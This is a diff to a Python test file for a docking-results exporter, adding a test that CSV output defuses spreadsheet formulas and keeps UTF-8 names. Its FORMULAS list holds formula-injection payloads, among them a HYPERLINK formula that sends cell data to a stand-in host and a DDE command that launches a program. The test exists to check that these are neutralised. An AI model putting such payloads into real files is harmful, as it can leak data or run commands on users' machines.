@@ -32,11 +32,11 @@ def jobs():
     ]
 
 
-def export(spool, tmp_path, header=None):
-    outs = [io.StringIO(), io.StringIO(), io.StringIO()]
+def export(spool, tmp_path, header=None, table=None):
+    outs = [io.StringIO(), table or io.StringIO(), io.StringIO()]
     spool.export(header or {"batch_id": "b1"}, *outs, tmp_path / "out.parquet")
-    aggregated, table, index = (o.getvalue() for o in outs)
-    return json.loads(aggregated), table, json.loads(index), tmp_path / "out.parquet"
+    aggregated, index = outs[0].getvalue(), outs[2].getvalue()
+    return json.loads(aggregated), table or outs[1].getvalue(), json.loads(index), tmp_path / "out.parquet"
 
 
 def test_csv_has_every_metric_column_and_one_row_per_job(tmp_path):
@@ -139,3 +139,33 @@ def test_report_is_self_contained(tmp_path):
     assert "<svg" in page and 'data-format="sdf"' in page and "parseSdf" in page
     assert "http://" not in page and "https://" not in page  # nothing to fetch
     assert page.index("lig-2") < page.index("lig-0")  # best first
+
+
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1+1)", '+cmd|" /C calc"!A0', "-2+3", "\tx", "\rx"]
+
+
+def test_csv_cells_that_excel_would_run_open_as_text_and_names_stay_utf8(tmp_path):
+    """The bytes a chemist's Excel opens: a byte-order mark (so UTF-8 names show right), formula
+    starts neutralised with an apostrophe, numbers (negative ones too) left as numbers; the
+    JSON and Parquet exports keep the raw names."""
+    import pyarrow.parquet as pq
+
+    from omtx import spreadsheet
+
+    names = [*FORMULAS, "β-Lapachone Ωmega", "naïve (−)-epicatechin"]
+    spool = Spool(tmp_path / "rows.jsonl").fill(
+        make_job(i, JobStatus.SUCCEEDED, vina_score=-7.25).model_copy(update={"ligand_name": n})
+        for i, n in enumerate(names)
+    )
+    csv_path = tmp_path / "batch_results.csv"
+    with csv_path.open("w", newline="", encoding=spreadsheet.ENCODING) as table:
+        doc, _, _, parquet = export(spool, tmp_path, table=table)
+    raw = csv_path.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
+    assert [r["ligand_name"] for r in rows] == ["'" + f for f in FORMULAS] + names[-2:]
+    assert all(not r["ligand_name"].startswith(spreadsheet.FORMULA_STARTS) for r in rows)
+    assert {r["vina_score"] for r in rows} == {"-7.25"}
+    assert "β-Lapachone Ωmega".encode() in raw
+    assert [j["ligand_name"] for j in doc["jobs"]] == names
+    assert pq.read_table(parquet).column("ligand_name").to_pylist() == names
